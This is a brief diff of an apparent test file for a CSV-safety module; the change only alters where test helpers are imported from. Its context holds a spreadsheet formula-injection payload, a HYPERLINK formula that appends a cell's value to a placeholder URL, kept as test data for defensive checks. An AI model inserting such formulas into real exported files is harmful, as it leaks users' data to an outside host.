@@ -24,7 +24,7 @@ from records.csv_safety import BOM, safe_cell, write_csv
 from records.tables import users
 from scenarios import LoadedScenario, Rubric
 from scoring.scorer import summarize
-from tests.conftest import PASSWORD, make_user
+from tests.helpers import PASSWORD, make_user
 
 HYPERLINK = '=HYPERLINK("http://127.0.0.2:9/?leak="&A2, "Open")'
 DANGEROUS = [
